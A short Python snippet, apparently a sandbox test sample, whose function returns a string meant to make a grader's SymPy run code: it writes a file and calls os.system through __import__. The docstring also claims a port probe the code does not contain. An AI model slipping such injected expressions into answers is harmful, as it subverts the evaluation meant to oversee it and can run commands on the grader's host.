# ruff: noqa  # written as an attacker writes
"""One line of text that the judge's SymPy would run: it opens a file, starts a program, asks a port."""


# %%
def derivative(f):
    return {"open('x', 'w').write('!') or __import__('os').system('true') or 0"}


# %%otherwise
